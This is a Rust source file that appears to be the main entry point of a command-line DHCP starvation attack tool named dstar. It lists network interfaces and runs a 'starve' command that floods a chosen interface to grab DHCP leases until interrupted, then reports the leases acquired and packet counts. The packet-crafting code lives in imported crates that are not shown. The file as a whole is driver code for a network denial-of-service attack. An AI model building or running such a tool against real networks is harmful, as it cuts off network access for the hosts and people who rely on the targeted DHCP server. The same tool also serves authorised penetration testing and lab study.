use dstar_attack::{wait_for_attack, ActionRunner, AttackExecutor};
use dstar_cli::{Cli, Commands, StarveArgs};
use dstar_core::{Attack, AttackContext, Interface};
use std::sync::Arc;
use tracing::{info, warn};
use tracing_subscriber::{fmt, prelude::*, EnvFilter};

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let cli = Cli::parse_args();

    let filter =
        EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new(cli.log_level()));
    tracing_subscriber::registry()
        .with(fmt::layer().with_target(false))
        .with(filter)
        .init();

    match cli.command {
        Commands::Interfaces => list_interfaces(),
        Commands::Starve(args) => starve(&args).await?,
    }

    Ok(())
}

fn list_interfaces() {
    let interfaces = Interface::list_all();
    if interfaces.is_empty() {
        println!("No interfaces found");
    }
    for iface in interfaces {
        println!("{}", iface);
    }
}

async fn starve(args: &StarveArgs) -> Result<(), Box<dyn std::error::Error>> {
    let config = args.to_config();
    config.validate()?;

    let interface = Interface::by_name(&args.interface)?;
    let runner = Arc::new(ActionRunner::starvation(&interface, config)?);

    println!("Starving DHCP on {} (Ctrl-C to stop)", interface);
    let ctx = AttackContext::new();
    let stopper = ctx.clone();
    tokio::spawn(async move {
        if tokio::signal::ctrl_c().await.is_ok() {
            info!("Interrupted, stopping");
            stopper.stop();
        }
    });

    let mut handle = AttackExecutor::new(runner.name()).execute(runner.clone(), ctx);
    let result = wait_for_attack(&mut handle).await;

    if let Err(e) = &result {
        warn!(error = %e, "Attack ended with an error");
    }

    let leases = runner.leases();
    let stats = handle.stats();
    println!(
        "\n{} lease(s) acquired, {} packet(s) sent, {} received, {} error(s)",
        leases.len(),
        stats.packets_sent,
        stats.packets_received,
        stats.errors
    );
    for lease in &leases {
        println!("  {}", lease);
    }

    result.map_err(Into::into)
}
